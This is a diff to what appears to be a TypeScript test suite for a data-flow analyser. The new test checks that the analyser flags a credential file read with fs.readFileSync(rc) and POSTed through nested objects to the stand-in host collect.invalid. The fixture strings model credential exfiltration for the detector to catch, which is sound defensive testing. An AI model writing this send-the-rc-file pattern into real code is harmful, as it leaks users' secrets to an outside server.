@@ -21,6 +21,21 @@ describe('functions that are called again', () => {
     assert.deepEqual(run('console.log((await ask(page.body)).body);'), []);
   });
 
+  it('are given something else, however deep that lies in what they are given', () => {
+    const send = `const send = (message) => fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(message) });`;
+    for (const [first, then] of [
+      ['{ a: navigator.language }', '{ a: fs.readFileSync(rc) }'],
+      ['{ a: { b: Date.now() } }', '{ a: { b: fs.readFileSync(rc) } }'],
+      ['[go()]', '[fs.readFileSync(rc)]'],
+    ] as const) {
+      const sent = (code: string): readonly string[] => flowsOf(`${send} ${code}`);
+      const expected = ['credential-file>network@collect.invalid'];
+      assert.deepEqual(sent(`send(${first}); send(${then});`), expected, then);
+      assert.deepEqual(sent(`exports.run = () => { send(${first}); send(${then}); };`), expected, then);
+      assert.deepEqual(sent(`send(${first}); send(${first});`), [], first);
+    }
+  });
+
   it('follow to where they are sent on, and count how often they still may', () => {
     for (const next of [
       'resolve(ask(res.headers.location, left - 1))',
